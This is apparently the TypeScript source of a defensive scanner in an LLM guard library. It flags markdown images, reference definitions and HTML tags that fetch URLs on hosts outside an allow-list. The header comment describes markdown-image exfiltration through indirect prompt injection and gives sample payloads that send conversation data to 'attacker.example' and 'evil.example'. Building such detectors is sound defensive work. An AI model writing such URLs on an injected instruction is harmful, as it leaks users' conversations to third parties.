/**
 * The `exfiltration` scanner (output stage): markdown images, reference definitions and HTML
 * tags that make the client fetch a URL on a host the policy does not allow — the zero-click
 * channel of indirect prompt injection (Rehberger's ChatGPT, Bing Chat, Bard and Copilot
 * reports; Willison's "markdown exfiltration"): an injected instruction makes the model write
 * `![a](https://attacker.example/log?q=<conversation>)`, and rendering the answer sends the
 * data. Findings: MARKDOWN_IMAGE, REFERENCE_DEFINITION (`[1]: url`, what `![a][1]` loads),
 * HTML_IMAGE (`<img>`), HTML_EMBED (iframe, video, script, link… with a fetching attribute),
 * and LINK with `links: true` (a link needs a click, so it scores 0.2 lower). The score says
 * how much data the URL carries (url-risk.ts).
 *
 * On a stream the scanner reports `holdFrom`, the start of a construct still open at the end of
 * the text (`![a](https://evil.example/?q=…`), so the streaming guard releases nothing of it
 * until it is decided; the parse resumes at its last checkpoint, so a rescan costs the new text.
 */
import { ValidationError } from '../../core/index.js';
import type { Finding, ScanContext, Scanner, ScanResult } from '../scanner.js';
import { StreamStates } from '../stream-cache.js';
import { type Construct, type ConstructKind, type MarkupCheckpoint, scanMarkup } from './markup-scan.js';
import {
  hostAllowed,
  normaliseAllowedDomain,
  payloadSignals,
  resolveUrl,
  scoreSignals,
  wordsOf,
} from './url-risk.js';

export interface ExfiltrationScannerOptions {
  /** Hosts images may load from, with their subdomains (`example.com` allows `cdn.example.com`). */
  allowedDomains?: readonly string[];
  /** Report links too (inline, autolinks, `<a href>`, bare URLs). Default false. */
  links?: boolean;
  /** Report `data:` URLs in images (they fetch nothing, but can carry anything). Default false. */
  dataUrls?: boolean;
}

export const EXFILTRATION_OPTIONS = ['allowedDomains', 'links', 'dataUrls'] as const;

const TYPES: Record<ConstructKind, string> = {
  image: 'MARKDOWN_IMAGE',
  definition: 'REFERENCE_DEFINITION',
  'html-image': 'HTML_IMAGE',
  'html-embed': 'HTML_EMBED',
  link: 'LINK',
};

/** A link needs a click: the same URL scores this much lower in a link than in an image. */
const LINK_DISCOUNT = 0.2;
const DATA_URL_SCORE = 0.6;
const MAX_VALUE_CHARS = 512;

/**
 * Checks a policy rule's options (unknown key, wrong type, an allow-list entry that is not a
 * host name → ValidationError naming what is allowed) and returns them normalised.
 */
export function exfiltrationOptions(options: Record<string, unknown>): ExfiltrationScannerOptions {
  const picked: { allowedDomains?: string[]; links?: boolean; dataUrls?: boolean } = {};
  for (const [key, value] of Object.entries(options)) {
    if (!(EXFILTRATION_OPTIONS as readonly string[]).includes(key)) {
      throw new ValidationError(
        `Unknown option "${key}" for the exfiltration scanner (it takes: ${EXFILTRATION_OPTIONS.join(', ')})`,
        { param: 'options' },
      );
    }
    if (key === 'allowedDomains') {
      if (!Array.isArray(value) || value.some((entry) => typeof entry !== 'string')) {
        throw new ValidationError(
          'The exfiltration scanner\'s option "allowedDomains" must be a list of host names',
          {
            param: 'options.allowedDomains',
          },
        );
      }
      picked.allowedDomains = (value as string[]).map((entry) => {
        const host = normaliseAllowedDomain(entry);
        if (host === null) {
          throw new ValidationError(
            `allowedDomains entry ${JSON.stringify(entry)} is not a host name (write e.g. "example.com": it allows its subdomains; no scheme, path, port, or single label such as "com")`,
            { param: 'options.allowedDomains' },
          );
        }
        return host;
      });
      continue;
    }
    if (typeof value !== 'boolean') {
      throw new ValidationError(`The exfiltration scanner's option "${key}" must be true or false`, {
        param: `options.${key}`,
      });
    }
    picked[key as 'links' | 'dataUrls'] = value;
  }
  return picked;
}

interface StreamState {
  checkpoint: MarkupCheckpoint;
  /** Findings of the constructs before the checkpoint (decided for good). */
  findings: Finding[];
  promptWords: ReadonlySet<string> | null | undefined;
}

/** The system prompt's words, built once per prompt text (a handful of prompts per server). */
const promptWordCache = new Map<string, ReadonlySet<string>>();

function promptWordsOf(prompt: string | undefined): ReadonlySet<string> | null {
  if (!prompt) return null;
  let words = promptWordCache.get(prompt);
  if (!words) {
    words = new Set(wordsOf(prompt));
    if (promptWordCache.size >= 64) promptWordCache.delete(promptWordCache.keys().next().value!);
    promptWordCache.set(prompt, words);
  }
  return words;
}

export function createExfiltrationScanner(options: ExfiltrationScannerOptions = {}): Scanner {
  const name = 'exfiltration';
  const allowed = (options.allowedDomains ?? []).map((entry) => normaliseAllowedDomain(entry) ?? entry);
  const links = options.links === true;
  const dataUrls = options.dataUrls === true;
  const streams = new StreamStates<StreamState>(() => ({
    checkpoint: { position: 0, fence: null, lineStart: true },
    findings: [],
    promptWords: undefined,
  }));

  const assess = (
    construct: Construct,
    text: string,
    state: StreamState,
    context: ScanContext,
  ): Finding | null => {
    const type = TYPES[construct.kind];
    const discount = construct.kind === 'link' ? LINK_DISCOUNT : 0;
    const finding = (score: number, value: string): Finding => ({
      scanner: name,
      type,
      score: Math.round(score * 1000) / 1000,
      start: construct.start,
      end: construct.end,
      value: value.slice(0, MAX_VALUE_CHARS),
    });
    if (construct.overlong) return finding(1 - discount, text.slice(construct.start, construct.end));
    let best: Finding | null = null;
    for (const url of construct.urls) {
      const target = resolveUrl(url);
      let score = 0;
      if (target.kind === 'data') score = dataUrls && construct.kind !== 'link' ? DATA_URL_SCORE : 0;
      else if (target.kind === 'remote' && !hostAllowed(target.host, allowed)) {
        if (state.promptWords === undefined) state.promptWords = promptWordsOf(context.systemPrompt);
        score = scoreSignals(payloadSignals(target, state.promptWords)) - discount;
      }
      if (score > 0 && (!best || score > best.score)) best = finding(score, url);
    }
    return best;
  };

  return {
    name,
    stages: ['output'],
    findingTypes: Object.values(TYPES),
    scan(text: string, context: ScanContext): ScanResult {
      const state = streams.get(context, text);
      const scan = scanMarkup(text, state.checkpoint, links);
      const findings = state.findings.slice();
      for (const construct of scan.constructs) {
        const found = assess(construct, text, state, context);
        if (!found) continue;
        findings.push(found);
        if (construct.end <= scan.checkpoint.position) state.findings.push(found);
      }
      state.checkpoint = scan.checkpoint;
      streams.seen(context, text);
      let score = 0;
      for (const finding of findings) if (finding.score > score) score = finding.score;
      const result: ScanResult = { scanner: name, score, findings };
      if (scan.holdFrom >= 0) result.holdFrom = scan.holdFrom;
      return result;
    },
  };
}
